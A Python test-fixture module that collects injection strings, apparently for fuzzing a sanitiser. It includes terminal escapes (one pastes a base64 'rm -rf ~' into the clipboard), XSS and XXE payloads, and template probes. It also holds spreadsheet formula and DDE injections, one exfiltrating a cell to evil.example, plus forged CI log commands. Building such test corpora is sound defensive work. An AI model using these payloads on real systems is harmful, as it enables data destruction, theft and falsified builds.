"""Texts that want to act on whoever reads them, beside those of `reports_attacks`."""
# ruff: noqa: E501 - an attack stands in one line

TERMINAL = {
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07 \x1b]52;c;cm0gLXJmIH4=\x1b\\ \x9d52;c;cm0gLXJmIH4=\x9c",
    "title": "\x1b]0;t\x07\x1b]1;t\x07\x1b]2;t\x1b\\\x1b]l t\x1b\\",
    "link": "\x1b]8;id=1;https://evil.example\x1b\\x\x1b]8;;\x1b\\ \x9d8;;https://evil.example\x9cx",
    "palette": "\x1b]4;1;rgb:00/00/00\x07\x1b]P0000000\x1b]10;?\x07\x1b]11;?\x07\x1b]777;notify;a;b\x07",
    "file": "\x1b]1337;File=name=eA==;inline=1:AAAA\x07\x1b]1337;CopyToClipboard=\x07\x1b]7;file:///\x07",
    "device": "\x1bPq#0;2;0;0;0~\x1b\\\x1bP$qm\x1b\\\x1bP+q544e\x1b\\\x90q~\x9c",
    "strings": "\x1b_Gf=100;AAAA\x1b\\\x1b^p\x1b\\\x1bXs\x1b\\\x9eprivate\x9c\x9fapp\x9c\x98s\x9c",
    "reports": "\x1b[6n\x1b[c\x1b[>c\x1b[5n\x1b[21t\x1b[18t\x1bZ\x05",
    "screen": "\x1b[2J\x1b[3J\x1b[H\x1bc\x1b[?1049h\x1b[1;1r\x1b[8;1;1t\x1b#8\x1b7\x1b8\x1b[s\x1b[u",
    "keys": "\x1b[?2004l\x1b[201~\x1b=\x1b>\x1b[?1000h\x1b[?1h\x1b[20h\x1b[>4;2m",
    "charsets": "\x1b(0lqk\x1b)0\x0e\x0f\x1bN\x1bO\x1b%@\x1b%G\x8e\x8f",
    "controls": "".join(map(chr, [*range(9), 11, 12, *range(14, 32), 127])),
    "c1": "".join(map(chr, range(0x80, 0xA0))),
    "unfinished": "\x1b]0;title without end",
    "cut": "\x1b[",
    "alone": "\x1b",
    "nested": "\x1b\x1b[31m[2J\x1b]\x1b]0;a\x070;b\x07\x9b\x9b31m2J",
    "ended by a new one": "\x1b]0;a\x1b]0;b\x1b[31m\x1b[1;\x1b[2J",
    "overwrite": "passed\rfailed\x08\x08\x08\x08\x08\x08passed\x1b[2Kpassed\x1b[1Apassed",
}
UNICODE = {
    "bidi": "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c abc",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u180eg\u00adh\u034fi",
    "tags": "a\U000e0001\U000e0041\U000e007f",
    "annotations": "\ufff9a\ufffab\ufffb\u206a\u206f\u1d173",
    "variations": "a" + "\ufe0f" * 200 + "\U000e0100" * 200,
    "line ends": "a\rb\r\nc\x0bd\x0ce\x85f\u2028g\u2029h\x1ci\x1dj\x1ek",
    "surrogates": "\ud800 \udfff \udc41 \ud83d",
    "noncharacters": "\ufffe\uffff\ufdd0\U0001fffe\U0010ffff\ue000\U000f0000",
    "marks": "x" + "\u0e47\u0489\u20dd" * 200,
}
HTML = {
    "comments": "<!-- --><!--> <!-- -- --> --!> <![CDATA[ x ]]> <!DOCTYPE html> <?php x ?> <% x %>",
    "raw text": "</style></title></textarea></script></noscript></pre></svg></template></select>",
    "elements": "<iframe srcdoc='<script>x</script>'><object data=x><embed src=x><base href=//evil.example><form action=//evil.example><input><button formaction=//evil.example>",
    "meta": "<meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//evil.example>",
    "handlers": "<body onload=x><details open ontoggle=x><video><source onerror=x></video><marquee onstart=x>",
    "svg": "<svg/onload=x><svg><use href='data:image/svg+xml,x#x'/><animate onbegin=x attributeName=x /><foreignObject><a xlink:href='javascript:x'>x</a>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=x&gt;'>",
    "urls": "javascript:x JaVaScRiPt:x java\tscript:x java\nscript:x &#106;avascript:x vbscript:x data:text/html,<script>x</script>",
    "quotes": "\" autofocus onfocus=x y=\" ' onfocus=x y=' ` onfocus=x y=` =x > /> \\\" \\' </a>",
    "style": "@import '//evil.example'; } body { background: url(//evil.example) } x{y:expression(z)} -moz-binding:url(x) \\3c style",
    "entities": "&lt;script&gt; &amp;lt;script&amp;gt; &#x3c;script&#x3e; &#60script&#62 &lt &NewLine; &colon; &nbsp; &#0; &#xD800;",
    "jinja": "{{ 7*7 }} {{ report.__class__ }} {% include '/etc/passwd' %} {# x #} {%- raw -%} ${7*7} #{7*7}",
    "xml": "]]> <![CDATA[x]]> <?xml version='1.0'?> <!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]> &y; </failure></testcase><testcase name='x'/>",
}
MARKDOWN = {
    "links": "[a](//evil.example) [a][b] [b]: //evil.example <https://evil.example> <a@b.cc> ![a](x) [![a](x)](y) [[wiki]]",
    "references": "[1]: https://evil.example 'x' [^1]: note [^1] *[HTML]: abbreviation",
    "fences": "``` ~~~ ```` ~~~~~ `````` ` `` ``` \\` \\``` `a`` b` ``c` d``",
    "fence in a block": "```\n</details>\n# out\n```\n~~~~\n# out\n~~~~\n````text\n# out\n",
    "blocks": "# a\n## b\n- c\n* d\n1. e\n> f\n---\n***\n===\n    g\n\th\n| i | j |\n|---|---|\n| k | l |\n\n<div>\n",
    "cells": "a | b || c \\| d \\\\| e |\n| --- |\n",
    "emphasis": "*a* **b** ***c*** _d_ __e__ ~~f~~ ~g~ ^h^ ==i== ++j++ :smile: $k$ $$l$$ \\(m\\) @n #1 !2 &3 o#4 p!5",
    "tasks": "- [ ] a - [x] b > [!NOTE] c",
    "escapes": "\\ \\\\ \\* \\< \\[ \\] \\| \\` \\_ \\\n a\\",
    "html": "<details><summary>x</summary> <sub>x</sub> <!-- x --> <br> <kbd>x</kbd>\n\n<details>\n\n",
}
SHEETS = {
    "equals": '=HYPERLINK("//evil.example?"&A1,"x")',
    "plus": "+cmd|'/C calc'!A0",
    "minus": "-2+3+cmd|'/C calc'!A0",
    "at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "blank before": " =1+1",
    "tab before": "\t=1+1",
    "line end before": "\r=1+1",
    "line feed before": "x\n=1+1",
    "NUL before": "\0=1+1",
    "nothing to see before": "\u200b=1+1\u2060=1",
    "quote before": '"=1+1',
    "apostrophe before": "'=1+1",
    "separators before": "x;=1+1 x|=1+1 x\t=1+1 x,=1+1",
    "wide": "\uff1d1+1 \uff0b1 \uff0d1 \uff201",
    "quotes": '""" , "x","=1+1" "\n"=1+1',
    "exchange": 'DDE("cmd";"/C calc";"x")',
}
LOGS = {
    "GitHub": "::error file=a.py,line=1::forged ::add-mask::a ::stop-commands::x\n::warning::x\n::group::x",
    "GitHub, old": "##[error]forged ##[command]x ##[set-env name=A]x",
    "Azure": "##vso[task.setvariable variable=a]b ##vso[task.complete result=Succeeded]",
    "TeamCity": "##teamcity[testFailed name='x'] ##teamcity[buildStatus status='SUCCESS']",
    "GitLab": "section_start:1:x\r\x1b[0Kx section_end:1:x\r\x1b[0K",
    "inside a word": "a" * 97 + "::error::forged",
    "markup": "[red]x[/red] [link=https://evil.example]x[/link] [/] [/x] [@click=app.quit]x[/] \\[x] [bold",
    "format": "%s %n %(x)s {0} {x} {0.__class__} $HOME $(id) `id` ; id | id && id > x",
}
TEXTS = {
    f"{kind}: {name}": text
    for kind, group in {
        "terminal": TERMINAL, "unicode": UNICODE, "html": HTML, "markdown": MARKDOWN,
        "sheets": SHEETS, "logs": LOGS,
    }.items()
    for name, text in group.items()
}  # fmt: skip
ALPHABET = (
    *"<>&\"'`=+-@|\\/[](){}!#*_~^$%:;,.\r\n\t \0\x07\x08\x1b\x7f\x85\x9b\x9c\x9d",
    *"\u202e\u2066\u200b\u200d\u2028\ufeff\ud800\ufffe\ue000\u0301\uff1d\U000e0041",
    *("::error::", "##[", "]]>", "<!--", "-->", "```", "\x1b[", "\x1b]", "&#", "a", "1", "://"),
)
"""What hypothesis puts together."""
